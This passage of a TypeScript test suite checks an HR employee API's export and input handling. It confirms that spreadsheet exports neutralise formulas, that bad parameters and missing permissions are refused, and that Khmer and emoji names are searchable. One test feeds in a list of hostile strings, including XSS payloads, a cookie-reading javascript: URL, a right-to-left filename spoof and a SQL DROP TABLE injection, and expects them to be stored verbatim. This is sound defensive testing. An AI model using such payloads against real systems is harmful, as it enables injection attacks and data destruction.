    it('exports .xlsx (the default) with text cells neutralised and the salary a number', async () => {
      const res = await t.call('GET', `${EMP}/export?department_id=${dept}&status=active`, { token: hr.token });
      expect(res.statusCode).toBe(200);
      expect(res.headers['content-type']).toBe(XLSX_TYPE);
      expect(res.headers['content-disposition']).toBe('attachment; filename="employees.xlsx"');
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
      const sheet = workbook.worksheets[0];
      expect(sheet.rowCount).toBe(2);
      const header = (sheet.getRow(1).values as unknown[]).slice(1);
      const cell = (name: string) => sheet.getRow(2).getCell(header.indexOf(name) + 1);
      expect(cell('Staff ID').value).toBe(evil.staff_id);
      expect(cell('Position').value).toBe(`'${FORMULA}`);
      expect(cell('Position').type).toBe(ExcelJS.ValueType.String);
      expect(cell('First Name').value).toBe("'@SUM(1+1)");
      expect(cell('Monthly Salary (USD)').value).toBe(1234.56);
      expect(cell('Monthly Salary (USD)').type).toBe(ExcelJS.ValueType.Number);
      // No cell anywhere holds a formula.
      sheet.eachRow((r) => r.eachCell((c) => expect(c.type).not.toBe(ExcelJS.ValueType.Formula)));
    });

    it('refuses a bad format or sort, and needs the read permission', async () => {
      expect((await t.call('GET', `${EMP}/export?format=pdf`, { token: hr.token })).json().validators).toEqual([
        { field: 'format', message: 'format must be xlsx or csv.' },
      ]);
      expect((await t.call('GET', `${EMP}/export?sort=password`, { token: hr.token })).statusCode).toBe(400);
      const other = await t.createUser([p('sysUser', 'read')]);
      expect((await t.call('GET', `${EMP}/export`, { token: other.token })).statusCode).toBe(403);
    });
  });

  describe('hostile text', () => {
    const payloads = [
      '<img src=x onerror=alert(1)>',
      '"><svg onload=alert(1)>',
      'javascript:alert(document.cookie)',
      'Sok\u202Egnp.exe',
      'Dara 👩🏽‍💻',
      "Robert'); DROP TABLE employee;--",
      'សុខ ដារា',
    ];

    it.each(payloads)('stores and returns %j verbatim in create, detail, list and the log', async (text) => {
      const e = await created({ first_name: text, position: text, address: text });
      expect(e.first_name).toBe(text);
      const detail = (await t.call('GET', `${EMP}/${e.id}`, { token: hr.token })).json().data;
      expect(detail).toMatchObject({ first_name: text, position: text, address: text });
      expect((await row(e.id))?.first_name).toBe(text);
      const [item] = (await listed(`q=${encodeURIComponent(e.staff_id)}`)).data;
      expect(item.first_name).toBe(text);
      expect(JSON.parse((await logOf(t, 'employee', e.id))[0].after!).first_name).toBe(text);
    });

    it('finds names with emoji and Khmer script by prefix', async () => {
      const emoji = await created({ first_name: 'Sreyneang🌸', last_name: 'Ouk' });
      const khmer = await created({ first_name: 'សុខា', last_name: 'ចាន់' });
      expect((await listed('q=sreyneang')).data.map((x) => x.id)).toEqual([emoji.id]);
      expect((await listed(`q=${encodeURIComponent('សុខា')}`)).data.map((x) => x.id)).toEqual([khmer.id]);
      expect((await listed(`q=${encodeURIComponent('ចាន')}`)).data.map((x) => x.id)).toEqual([khmer.id]);
      expect((await listed(`q=${encodeURIComponent('សុខា ចា')}`)).data.map((x) => x.id)).toEqual([khmer.id]);
    });

    it('refuses 10,000-character names with a message', async () => {
      const res = await refused(400, () => create(employeeBody([officeA], { first_name: 'a'.repeat(10_000) })));
      expect(res.validators).toEqual([
        { field: 'first_name', message: 'First name must be at most 100 characters long.' },
      ]);
    });
  });

  describe('linked system user', () => {
    it('shows the linked user as {id, username} in detail and list', async () => {
      const e = await created({ first_name: 'Linkedy' });
      expect(e.user).toBeNull();
      const user = await t.createUser([], `linked_${Date.now().toString(36)}`);
      await t.db.kysely.updateTable('sys_user').set({ employee_id: e.id }).where('id', '=', user.id).execute();
      const detail = (await t.call('GET', `${EMP}/${e.id}`, { token: hr.token })).json().data;
      expect(detail.user).toEqual({ id: user.id, username: user.username });
      const [item] = (await listed('q=linkedy')).data;
      expect(item.user).toEqual({ id: user.id, username: user.username });
    });
  });
});
